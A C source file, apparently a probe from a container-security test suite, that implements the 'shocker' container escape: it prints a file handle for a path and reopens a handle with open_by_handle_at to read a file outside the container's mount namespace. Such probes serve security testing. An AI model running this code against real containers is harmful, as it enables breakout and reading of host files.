/* fhandle name PATH      print "TYPE HEX" of PATH's file handle
 * fhandle open TYPE HEX  open_by_handle_at on the filesystem of "/" and print
 *                        the first line of the file; exit 0 if it opened.
 * This is the "shocker" container escape: a handle names an inode on the
 * whole filesystem, whatever the caller's mount namespace shows. */
#include "common.h"
#include <fcntl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc == 3 && strcmp(argv[1], "name") == 0) {
        struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
        h->handle_bytes = MAX_HANDLE_SZ;
        int mount_id;
        if (name_to_handle_at(AT_FDCWD, argv[2], h, &mount_id, 0) < 0) {
            perror("name_to_handle_at");
            return 1;
        }
        printf("%d ", h->handle_type);
        for (unsigned i = 0; i < h->handle_bytes; i++)
            printf("%02x", h->f_handle[i]);
        printf("\n");
        return 0;
    }
    if (argc == 4 && strcmp(argv[1], "open") == 0) {
        size_t len = strlen(argv[3]) / 2;
        struct file_handle *h = malloc(sizeof *h + len);
        h->handle_bytes = (unsigned)len;
        h->handle_type = atoi(argv[2]);
        for (size_t i = 0; i < len; i++)
            sscanf(argv[3] + 2 * i, "%2hhx", &h->f_handle[i]);
        int mfd = open("/", O_RDONLY | O_DIRECTORY);
        if (!report("open_root", mfd))
            return 1;
        int fd = open_by_handle_at(mfd, h, O_RDONLY);
        if (!report("open_by_handle_at", fd))
            return 1;
        char buf[256];
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n > 0) {
            buf[n] = 0;
            char *nl = strchr(buf, '\n');
            if (nl)
                *nl = 0;
            printf("read: %s\n", buf);
        }
        return 0;
    }
    fprintf(stderr, "usage: fhandle name PATH | fhandle open TYPE HEX\n");
    return 2;
}
